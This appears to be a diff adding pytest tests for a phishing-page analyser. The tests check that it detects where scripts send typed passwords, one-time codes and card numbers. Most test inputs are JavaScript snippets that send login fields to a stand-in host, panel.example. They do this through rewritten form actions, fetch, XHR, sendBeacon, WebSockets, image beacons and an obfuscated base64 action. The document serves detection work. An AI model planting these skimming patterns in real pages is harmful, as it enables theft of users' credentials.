@@ -1,0 +1,119 @@
+"""Where scripts send what is typed, whatever the forms of the page say."""
+
+import pytest
+
+from scamtriage.parse.html.page import read_page
+from scamtriage.parse.html.scripts.receivers import MAX_PIECES
+from tests.cost import least_cpu_s
+from tests.parse.html.readers import STREAM
+
+FORM = '<form id="login" onsubmit="return go(event)"><input name="user"><input type="password" name="xpw1"><button>OK</button></form>'
+THERE = "https://panel.example/a/post.php"
+
+
+def hosts(script: str, form: str = FORM, tail: str = "") -> list[str]:
+    """Where the inputs of a page with this script are sent."""
+    html = f"<!doctype html><h1>Bank</h1>{form}<script>{script}</script>{tail}"
+    facts, _ = read_page(body=html.encode(), content_type="text/html", url="https://a.test/x/", host="a.test", suffix="test")
+    return [form.action_host for form in facts.forms if any(field.asks == "password" for field in form.fields)]
+
+
+@pytest.mark.parametrize("flood", ["", STREAM], ids=["tree", "tokens"])
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"document.getElementById('login').action = '{THERE}'",
+        f"document.forms[0].action='{THERE}';",
+        f"function go(e){{ e.target.action = '{THERE}'; return true }}",
+        f"$('#login').attr('action', '{THERE}')",
+        f'login.setAttribute("action", "{THERE}")',
+        f"document.querySelector('button').formAction = '{THERE}'",
+        "const s = new WebSocket('wss://panel.example/live'); function go(){ s.send(JSON.stringify({password: login.xpw1.value})) }",
+        "var socket = io('https://panel.example'); $('#b').click(() => socket.emit('otp', {otp: o}))",
+        f"function go(){{ new Image().src = '{THERE}?p=' + encodeURIComponent(login.xpw1.value) }}",
+        f"function go(){{ location.href = '{THERE}?u=' + u + '&p=' + login.xpw1.value }}",
+        "login.action = 'https://bank.example:443@panel.example/'",
+        "login['act'+'ion'] = atob('aHR0cHM6Ly9wYW5lbC5leGFtcGxlL2EvcG9zdC5waHA=')",
+        f"const API = '{THERE}'; function go(e){{ fetch(API, {{method: 'POST', body: new FormData(login)}}) }}",
+        "const A = 'https://panel.example'; const go = async e => { await fetch(`${A}/save?id=${uid}`, {method: 'POST', body: of(xpw1)}) }",
+        f"$('#login').submit(function(){{ $.post('{THERE}', $(this).serialize()); return false }})",
+        f"$.ajax({{ type: 'POST', url: '{THERE}', data: {{ email: email, password: password }} }})",
+        f"function go(){{ var x = new XMLHttpRequest(); x.open('POST', '{THERE}', true); x.send('u=' + u + '&p=' + login.xpw1.value) }}",
+        f"axios.post('{THERE}', {{ user, otp: otpValue }})",
+        f"axios({{ method: 'post', url: '{THERE}', data: new FormData(login) }})",
+        f"addEventListener('pagehide', function(){{ navigator.sendBeacon('{THERE}', JSON.stringify({{matKhau: m}})) }})",
+        "var u = 'https://panel.example/c?k=' + key; new XMLHttpRequest().open('GET', 'https://panel.example/c?p=' + login.xpw1.value)",
+        f"function go(e){{ const body = {{}}; body['card_number'] = n.value; return fetch('{THERE}', {{body}}) }}",
+    ],
+)
+def test_what_a_script_sends_elsewhere_is_sent_there(script: str, flood: str) -> None:
+    assert hosts(script, tail=flood) == ["", "panel.example"]
+
+
+def test_a_handler_in_an_attribute_and_inputs_outside_forms_are_read_too() -> None:
+    inputs = f"<input type=password id=pwd><button onclick=\"fetch('{THERE}', {{method: 'POST', body: pwd.value}})\">OK</button>"
+    assert hosts("", form=inputs) == ["panel.example"]
+    form = "<form action='{}'><input type=password name=pwd></form>"
+    assert hosts("", form=form.format(f'javascript:void fetch("{THERE}?p="+pwd.value)')) == ["", "panel.example"]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"store.action === '{THERE}'",
+        f"state.action = 'open'; menu = '{THERE}'",
+        f"login.action = '/x/post.php'; log('{THERE}')",
+        f"fetch('{THERE}').then(r => r.json()).then(show)",
+        f"function load(){{ fetch('{THERE}') }} function go(){{ check(password) }}",
+        "function go(){ fetch('/api/login', {method: 'POST', body: new FormData(login)}) }",
+        "function go(){ fetch('https://a.test/api/login', {method: 'POST', body: new FormData(login)}) }",
+        "function go(){ fetch(location.origin + '/login', {method: 'POST', body: new FormData(login)}) }",
+        f"function go(){{ check(password); fetch('{THERE}').then(show) }}",
+        f"$(function(){{ {'a.b(c);' * 100} f.password.focus(); $.post('{THERE}', stat) }})",
+        f"fetch('{THERE}', {{method: 'POST', body: page}}); {'a.b(c);' * 100} f.password.focus()",
+        "const s = new WebSocket('wss://chat.example/live'); s.send('hello'); f.password.focus()",
+        "new Image().src = 'https://count.example/?r=' + Math.random(); f.password.focus()",
+        "help.href = 'https://help.example/?page=' + page",
+        f"// login.action = '{THERE}'",
+        f"say(\"login.action = '{THERE}'\")",
+        f"$.post('{THERE}', {{ page: 3 }})",
+        "window.open('GET', 'https://help.example/password')",
+    ],
+)
+def test_what_sends_no_secret_elsewhere_receives_none(script: str) -> None:
+    assert hosts(script) in ([""], ["", "a.test"])
+
+
+def test_a_letter_that_is_subscribed_to_beside_a_log_in_sends_no_secret() -> None:
+    letter = FORM + '<form id="news"><input type="email" name="mail"></form>'
+    assert hosts(f"news.onsubmit = function(){{ fetch('{THERE}', {{method: 'POST', body: new FormData(news)}}) }}", form=letter) == [""]
+
+
+def test_a_page_that_asks_for_no_secret_sends_none() -> None:
+    assert hosts(f"search.action = '{THERE}'", form="<form id=search><input name=q></form>") == []
+
+
+def test_a_long_script_pushes_no_short_one_aside_and_is_told_where_it_was_cut() -> None:
+    long = "fetch(a);" + "a=b;" * MAX_PIECES
+    assert hosts(f"{long}</script><script>login.action='{THERE}'") == ["", "panel.example"]
+    html = f"{FORM}<script>{long}</script>"
+    _, caps = read_page(body=html.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")
+    assert f"receiver search pieces {MAX_PIECES}" in [cap.cap for cap in caps]
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "fetch(u,{a:password});",
+        "function(){fetch(",
+        "a.action=",
+        "$.post(",
+        "fetch(b+",
+        "function f(){x.open('POST',",
+        "fetch('//a.b/',(",
+        "a=>fetch(`",
+    ],
+)
+def test_hostile_scripts_cost_little(piece: str) -> None:
+    html = f"{FORM}<script>{piece * (900_000 // len(piece))}</script>"
+    assert least_cpu_s(lambda: hosts(html), within=1.5) <= 1.5
